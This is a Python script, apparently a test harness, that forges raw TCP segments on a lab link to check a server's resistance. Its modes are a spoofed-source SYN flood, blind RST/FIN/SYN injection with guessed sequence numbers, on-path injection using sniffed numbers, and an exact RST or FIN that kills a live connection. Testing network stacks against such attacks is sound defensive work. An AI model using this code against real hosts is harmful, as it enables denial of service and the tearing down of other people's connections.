#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""attacker.py MODE [4|6]: forged TCP segments from the client's address (or nobody's) into the server's port, from the wire between them.

    flood      SYNs from addresses that never answer; prints `sent` after 4000 of them
    blind      RST, FIN, SYN and data with random numbers for every connection seen: all that an off-path attacker cannot know is
               guessed, only the ports are looked up
    near       with the numbers read off the wire: RSTs in the window but not at its beginning, SYNs, stale data, stale FINs and FINs
               behind the window, impossible ACKs
    rst, fin   one exact RST or FIN as soon as a connection has more than 300,000 bytes one way and no more under way; then ends

The first three go on until standard input ends and then print `sent N answered M`: segments forged, and segments of the server seen.
"""
import os
import random
import select
import socket
import struct
import sys
import time

PORT = 9000
ENDS = {4: ("10.77.0.1", "10.77.0.2"), 6: ("fd00:77::1", "fd00:77::2")}
FAMILY = {4: socket.AF_INET, 6: socket.AF_INET6}
ETHER_TYPE = {4: b"\x08\0", 6: b"\x86\xdd"}
FIN, SYN, RST, PSH, ACK = 1, 2, 4, 8, 16
EDGE = 1 << 32
SEGMENT = 1000  # less than any whole segment has: what is seen here may be several in one frame
AT_REST = 300_000  # a victim sends a little more and then waits, so its numbers stand still


def checksum(data):
    total = sum(struct.unpack(f"!{(len(data) + 1) // 2}H", data + b"\0" * (len(data) % 2)))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def segment(ethernet, source, server, port, seq, ack, flags, options=b"", payload=b""):
    """A whole frame from source:port to the server."""
    tcp = struct.pack("!HHIIBBHHH", port, PORT, seq % EDGE, ack % EDGE, (20 + len(options)) // 4 << 4, flags, 1000, 0, 0)
    tcp += options + payload
    pseudo = source + server + struct.pack("!II", len(tcp), 6)  # IPv4's has half of those zeros, which add nothing
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    if len(source) == 16:
        return ethernet + struct.pack("!IHBB", 6 << 28, len(tcp), 6, 64) + source + server + tcp
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64, 6, 0) + source + server
    return ethernet + ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:] + tcp


class Flow:
    """What the wire has shown of one connection of the client."""

    def __init__(self):
        self.first = self.sent = self.acked = self.server_first = self.server_next = None
        self.window = self.scale = self.stamp = 0
        self.inside = None  # (first, last) number that lies inside the newest segment, at no edge of it
        self.ended = False

    def from_client(self, seq, flags, options, size):
        if flags & SYN:
            self.__init__()
            self.first = seq + 1
        end = (seq + size + bool(flags & (SYN | FIN))) % EDGE
        if self.sent is None or (end - self.sent) % EDGE < EDGE // 2:
            self.sent = end
            if size > 2:
                self.inside = (seq + 1, seq + min(size, SEGMENT) - 1)
        self.stamp = options.get(8, self.stamp)
        self.ended |= bool(flags & (FIN | RST))

    def from_server(self, seq, ack, flags, options, size, window):
        if flags & SYN:
            self.scale, self.server_first = options.get(3, 0), seq + 1
        self.acked, self.window = ack, window << (0 if flags & SYN else self.scale)
        self.server_next = (seq + size + bool(flags & (SYN | FIN))) % EDGE
        self.ended |= bool(flags & (FIN | RST))

    def is_at_rest(self):
        """Much has gone one way, nothing is under way."""
        return self.first is not None and self.server_first is not None and self.acked == self.sent and max(
            (self.acked - self.first) % EDGE, (self.server_next - self.server_first) % EDGE) > AT_REST


def read_options(data):
    """{8: timestamp value, 3: window shift}"""
    found, at = {}, 0
    while at < len(data) and data[at] != 0:
        if data[at] == 1:
            at += 1
            continue
        if at + 1 >= len(data) or data[at + 1] < 2:
            break
        if data[at] == 8:
            found[8] = struct.unpack_from("!I", data, at + 2)[0]
        elif data[at] == 3:
            found[3] = data[at + 2]
        at += data[at + 1]
    return found


class Wire:
    def __init__(self, version):
        self.version = version
        self.server, self.client = (socket.inet_pton(FAMILY[version], end) for end in ENDS[version])
        self.socket = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
        self.socket.bind(("m0", 0))
        self.flows, self.ethernet, self.answered, self.sent = {}, None, 0, 0

    def look(self):
        """Reads one frame."""
        frame, (_, _, kind, _, _) = self.socket.recvfrom(200)
        addresses, at, protocol = (26, 34, 23) if self.version == 4 else (22, 54, 20)
        if len(frame) < at + 20 or frame[12:14] != ETHER_TYPE[self.version] or frame[protocol] != 6:
            return
        source, dest = frame[addresses:(addresses + at) // 2], frame[(addresses + at) // 2:at]
        total = struct.unpack_from("!H", frame, 16)[0] - 20 if self.version == 4 else struct.unpack_from("!H", frame, 18)[0]
        here, there, seq, ack, offset, flags, window = struct.unpack_from("!HHIIBBH", frame, at)
        options = read_options(frame[at + 20:at + (offset >> 4) * 4])
        size = total - (offset >> 4) * 4
        if source == self.server and here == PORT:
            self.answered += 1
            if dest == self.client:
                self.flows.setdefault(there, Flow()).from_server(seq, ack, flags, options, size, window)
        elif dest == self.server and there == PORT and source == self.client and kind == socket.PACKET_OUTGOING:
            self.ethernet = frame[:14]
            self.flows.setdefault(here, Flow()).from_client(seq, flags, options, size)

    def look_at_all(self):
        """Reads what is there."""
        self.socket.setblocking(False)
        try:
            for _ in range(512):
                self.look()
        except BlockingIOError:
            pass
        self.socket.setblocking(True)

    def alive(self):
        if not self.ethernet:  # It came in between a SYN and its answer.
            return []
        return [(port, flow) for port, flow in self.flows.items() if flow.acked is not None and not flow.ended]

    def forge(self, *arguments, source=None, **more):
        self.socket.send(segment(self.ethernet, source or self.client, self.server, *arguments, **more))
        self.sent += 1


def stamps(flow, value=None):
    return struct.pack("!BBBBII", 1, 1, 8, 10, (flow.stamp if value is None else value) % EDGE, 0)


def blind(wire, port, flow):
    for flags in (RST, RST | ACK, FIN | ACK, SYN, ACK | PSH):
        options = stamps(flow, random.randrange(EDGE)) if random.random() < 0.5 else b""
        wire.forge(port, random.randrange(EDGE), random.randrange(EDGE), flags, options=options,
                   payload=b"forged" if flags & PSH else b"")


def near(wire, port, flow):
    mine, ours = flow.acked, flow.server_next
    if flow.inside:  # Inside a segment that is under way: however late this comes, the server never waits for just that number.
        wire.forge(port, random.randint(*flow.inside), 0, RST)
        wire.forge(port, random.randint(*flow.inside), ours, RST | ACK, options=stamps(flow))
    wire.forge(port, mine, ours, SYN, options=stamps(flow))
    wire.forge(port, mine - 1, ours, RST | ACK, options=stamps(flow))
    wire.forge(port, mine - 1, ours, FIN | ACK, options=stamps(flow))
    wire.forge(port, mine + flow.window + (1 << 30), ours, FIN | ACK, options=stamps(flow))  # Far: the edge may have moved on by now.
    wire.forge(port, mine - 3000, ours, ACK | PSH, options=stamps(flow), payload=b"forged" * 100)
    wire.forge(port, mine - 1, ours + 1_000_000, ACK, options=stamps(flow))
    wire.forge(port, mine, ours, ACK | PSH, options=stamps(flow, flow.stamp - 1_000_000), payload=b"forged" * 100)


def attack_until_told(wire, what):
    """Looks and forges in turn: whoever forges by what it saw long ago forges what is harmless."""
    due = time.monotonic()
    while True:
        ready = select.select([sys.stdin, wire.socket], [], [], 0.002)[0]
        if sys.stdin in ready:
            break
        if ready:
            wire.look_at_all()
        if time.monotonic() >= due:
            due = time.monotonic() + 0.002
            for port, flow in wire.alive():
                what(wire, port, flow)
    print(f"sent {wire.sent} answered {wire.answered}", flush=True)


def flood(wire):
    option = struct.pack("!BBHBBBB", 2, 4, 1460, 1, 3, 3, 7)
    while not select.select([sys.stdin], [], [], 0)[0]:
        wire.look_at_all()
        for _ in range(50):
            source = bytes([198, 18]) + os.urandom(2) if wire.version == 4 else b"\x20\x01\x0d\xb8" + os.urandom(12)
            wire.forge(random.randrange(1024, 65536), random.randrange(EDGE), 0, SYN, source=source, options=option)
        if wire.sent == 4000:
            print("sent", flush=True)
    print(f"sent {wire.sent} answered {wire.answered}", flush=True)


def exact(wire, flags):
    while True:
        for port, flow in wire.alive():
            if flow.is_at_rest():
                wire.forge(port, flow.acked, flow.server_next, flags, options=stamps(flow))
                print("sent", flush=True)
                return
        wire.look()


def main():
    mode, wire = sys.argv[1], Wire(int(sys.argv[2]) if len(sys.argv) > 2 else 4)
    if mode in ("rst", "fin"):
        print("looking", flush=True)
        exact(wire, RST | ACK if mode == "rst" else FIN | ACK)
        return

    print("looking", flush=True)
    if mode == "flood":
        while not wire.ethernet:
            wire.look()
        flood(wire)
    else:
        attack_until_told(wire, {"blind": blind, "near": near}[mode])


if __name__ == "__main__":
    main()
